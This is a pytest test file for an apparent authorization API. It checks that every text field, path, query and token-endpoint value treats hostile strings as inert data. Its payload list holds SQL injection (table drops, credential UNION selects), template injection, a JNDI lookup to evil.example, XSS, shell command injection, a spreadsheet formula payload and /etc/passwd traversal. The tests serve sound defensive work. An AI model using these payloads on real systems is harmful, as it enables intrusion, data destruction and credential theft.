"""sql_and_template_injection: every text field of every API is data: it comes back as it went in, and does nothing."""

import json
import re
from collections.abc import AsyncIterator
from pathlib import Path
from urllib.parse import quote

import pytest

from accredit import app, config
from tests.support.house import FORM, LINES, House, house

PAYLOADS = [
    "'; DROP TABLE clients; --",
    "' OR '1'='1",
    '" OR ""="',
    "') UNION SELECT material FROM credentials --",
    "x'); DELETE FROM audit_records; --",
    "%' OR slug LIKE '%",
    "100%_",
    "\\'; SELECT pg_sleep(9); --",
    "$1 :name ? %s %(x)s {x} {0.__class__}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "{{config.__class__.__init__.__globals__}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "$(touch /tmp/x) `id` | id ; id && id",
    "=cmd|' /C calc'!A0",
    "../../../etc/passwd",
    "[bold red]x[/] [link=https://evil.example]y[/link]",
]
PLACES = ["name", "purpose", "owner", "sponsor"]


@pytest.fixture(params=["sqlite", "postgresql"])
async def both(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[House]:
    """A house on each engine."""
    url = await _migrated(request.getfixturevalue("postgres_url"), tmp_path) if request.param != "sqlite" else None
    async with house(tmp_path, url) as found:
        yield found


async def _migrated(url: str, folder: Path) -> str:
    await app.migrate_database(config.load(data=folder / "data", database=url))
    return url


async def unharmed(both: House) -> None:
    """Assert that nobody is gone, nothing was added, and the log holds."""
    servers, agents = [await both.admin.ok("GET", where) for where in ("/servers", "/agents")]
    assert {item["slug"] for item in servers["items"]} == {"guard", "ledger", "management", "other"}
    assert [item["slug"] for item in agents["items"]] == ["bot"]
    assert (await both.ask()).status_code == 200
    assert (await both.admin.ok("GET", "/audit/verify"))["ok"]


async def test_texts_for_people_come_back_as_they_went_in(both: House) -> None:
    for number, payload in enumerate(PAYLOADS):
        texts = dict.fromkeys(PLACES, payload[:200])
        await both.admin.ok("POST", "/agents", json={"slug": f"x-{number}", "roles": ["reader"]} | texts)
        shown = await both.admin.ok("GET", f"/agents/x-{number}")
        assert {place: shown[place] for place in PLACES} == texts
        described = {"word": "ledger:read", "description": payload}
        tool = {"name": payload, "needs": ["ledger:read"], "description": payload}
        body = {"slug": f"s-{number}", "resource": f"https://s{number}.example", "name": payload[:200]}
        await both.admin.ok("POST", "/servers", json=body | {"scopes": [described], "tools": [tool]})
        server = await both.admin.ok("GET", f"/servers/s-{number}")
        assert (server["name"], server["scopes"][0]["description"]) == (payload[:200], payload)
        assert (server["tools"][0]["name"], server["tools"][0]["description"]) == (payload, payload)
    found = [item["slug"] for item in (await both.admin.ok("GET", "/servers?limit=200"))["items"]]
    assert len(found) == len(PAYLOADS) + 4
    assert (await both.admin.ok("GET", "/audit/verify"))["ok"]


async def test_a_tool_name_in_the_path_is_data_too(both: House) -> None:
    for payload in PAYLOADS:
        where = f"/servers/ledger/tools/{quote(payload, safe='')}"
        await both.admin.ok("PUT", where, json={"needs": ["ledger:read"]})
        await both.admin.ok("DELETE", where)
        assert await both.admin.refused("DELETE", where) == (404, "not_found")
    server = await both.admin.ok("GET", "/servers/ledger")
    assert {tool["name"] for tool in server["tools"]} == {"list_invoices", "purge_ledger"}
    await unharmed(both)


@pytest.mark.parametrize(
    "template",
    ["/agents/{}", "/agents/{}/suspend", "/agents/bot/credentials/{}", "/roles/{}", "/servers/{}", "/guards/{}",
     "/decisions/{}", "/audit?decision={}", "/audit?kind={}", "/audit?server={}", "/audit?outcome={}",
     "/audit?since={}", "/audit?cursor={}", "/agents?cursor={}", "/servers?cursor={}", "/roles?cursor={}",
     "/guards?cursor={}", "/agents?limit={}", "/servers/ledger/scopes/{}"],
)  # fmt: skip
async def test_no_name_in_a_path_or_a_query_asks_for_more_than_itself(victim: House, template: str) -> None:
    for payload in PAYLOADS:
        for method in ("GET", "POST", "DELETE"):
            answer = await victim.admin.http.request(method, template.format(quote(payload, safe="")))
            assert answer.status_code in (400, 404, 405, 422), (method, payload, answer.text)
            assert answer.headers["content-type"] == "application/problem+json"
    await unharmed(victim)


async def test_slugs_words_and_resources_are_closed_alphabets(victim: House) -> None:
    for payload in PAYLOADS:
        for where, body in (
            ("/agents", {"slug": payload, "owner": "d"}),
            ("/roles", {"slug": payload, "scopes": {}}),
            ("/servers", {"slug": payload, "resource": "https://x.example"}),
            ("/servers", {"slug": "x", "resource": payload}),
            ("/servers", {"slug": "x", "resource": f"https://x.example/{payload}"}),
            ("/servers/ledger/enrolments", {"name": payload}),
        ):
            status, _ = await victim.admin.refused("POST", where, json=body)
            assert status in (400, 404, 422), (where, payload)
    await unharmed(victim)


async def test_the_token_endpoint_looks_for_a_client_and_a_credential_by_their_whole_name(both: House) -> None:
    selector = both.secret.split("_")[1]
    likes = [both.client_id[:-1] + "_", both.client_id[:-1] + "%", "%", both.client_id.upper(), both.client_id + " "]
    for payload in [*PAYLOADS, *likes]:
        form = {"grant_type": "client_credentials", "resource": "https://tools.example/mcp"}
        named = await both.post(form, (payload, both.secret))
        secret = await both.post(form, (both.client_id, f"acs_{payload}_{selector}"))
        assert {named.json()["error"], secret.json()["error"]} <= {"invalid_client", "slow_down"}, payload
        for field in ("scope", "resource", "grant_type"):
            answer = await both.post(form | {field: payload}, (both.client_id, both.secret))
            assert 400 <= answer.status_code < 500
            assert not set("<>\"'\\") & set(answer.json()["error_description"]) - {"'"}
    both.admin.clock.advance(61)
    await unharmed(both)


async def test_what_strangers_and_guards_write_into_the_log_is_data(both: House) -> None:
    headers = {"authorization": f"Bearer {await both.guard_token()}", "content-type": LINES}
    token = await both.token()
    for payload in PAYLOADS:
        person = json.dumps({"reason": payload, "target": payload, "subject": payload, "x": {"y": payload}}).encode()
        line = both.line(person, kind=payload, outcome=payload)
        answer = await both.public.post("/guard/v1/records", content=line, headers=headers)
        assert answer.status_code == 200, answer.text
        await both.reach(token, payload, headers={"mcp-name": payload})
    await both.site.ship()
    found = (await both.admin.ok("GET", "/audit?limit=200"))["items"]
    targets = [item["person"]["target"] for item in found if item["kind"] in ("decision", *PAYLOADS)]
    assert sorted(targets) == sorted([*PAYLOADS, *PAYLOADS])
    assert both.site.inner.calls == []
    await unharmed(both)


async def test_no_answer_in_any_language_evaluates_what_was_sent(victim: House) -> None:
    answers: list[str] = []
    for payload in PAYLOADS:
        path = quote(payload, safe="")
        for where in (f"/{path}", f"/guard/v1/{path}", f"/.well-known/{path}", f"/token/{path}"):
            answer = await victim.public.get(where)
            assert (answer.status_code, answer.headers["content-type"]) == (404, "application/problem+json")
            answers.append(answer.text)
        enrolled = await victim.public.post("/guard/v1/enrol", json={"code": payload, "jwk": {"kty": payload}})
        assert enrolled.status_code == 422
        sent = await victim.public.post("/token", content=f"grant_type={path}", headers={"content-type": FORM})
        answers += [enrolled.text, sent.text]
    assert not re.search(r"\b49\b|<script|onerror|__globals__|root:", "".join(answers))
